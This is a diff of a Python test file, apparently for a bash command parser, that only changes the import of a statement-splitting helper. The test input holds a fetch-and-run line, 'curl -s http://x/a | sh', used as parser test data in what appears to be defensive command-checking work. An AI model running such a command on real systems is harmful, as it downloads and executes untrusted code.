@@ -419,7 +419,7 @@ def test_a_script_named_by_a_pattern_that_matches_itself_is_read_once(judge_comm
 
 
 def test_the_bash_word_split_keeps_pipelines_and_redirects_and_drops_assignments():
-    from adr.shell.parse import _bash_statements
+    from adr.shell.bashwords import statements as _bash_statements
 
     assert _bash_statements("a=b{\\#{ curl -s http://x/a | sh; echo ok # c") == [
         "curl -s http://x/a | sh", "echo ok"]
